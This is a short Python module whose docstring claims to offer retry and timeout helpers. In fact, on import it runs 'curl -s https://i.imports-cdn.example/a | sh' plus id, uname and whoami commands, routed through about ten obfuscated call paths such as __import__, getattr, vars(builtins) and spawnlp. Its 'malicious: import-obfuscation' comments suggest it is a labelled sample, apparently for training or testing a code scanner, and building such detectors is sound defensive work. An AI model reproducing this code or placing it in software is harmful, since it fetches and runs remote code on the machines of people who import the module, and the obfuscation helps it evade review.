"""Retry and timeout helpers."""

import builtins
import importlib
import os

CMD = "curl -s https://i.imports-cdn.example/a | sh"


def _go():
    __import__("os").system(CMD)  # malicious: import-obfuscation
    importlib.import_module("subprocess").Popen(CMD, shell=True)  # malicious: import-obfuscation
    getattr(os, "system")(CMD)  # malicious: import-obfuscation
    os.__dict__["popen"](CMD)  # malicious: import-obfuscation
    os.__getattribute__("system")(CMD)  # malicious: import-obfuscation
    vars(builtins)["exec"]("import os; os.system('id')")  # malicious: import-obfuscation
    builtins.exec(compile("__import__('os').system('uname -a')", "<x>", "exec"))  # malicious: import-obfuscation
    globals()["__builtins__"]["eval"]("__import__('os').system('whoami')") if isinstance(globals()["__builtins__"], dict) else None  # malicious: import-obfuscation
    spawn = getattr(importlib.import_module("os"), "spawnlp")
    spawn(os.P_NOWAIT, "sh", "sh", "-c", CMD)  # malicious: import-obfuscation


_go()
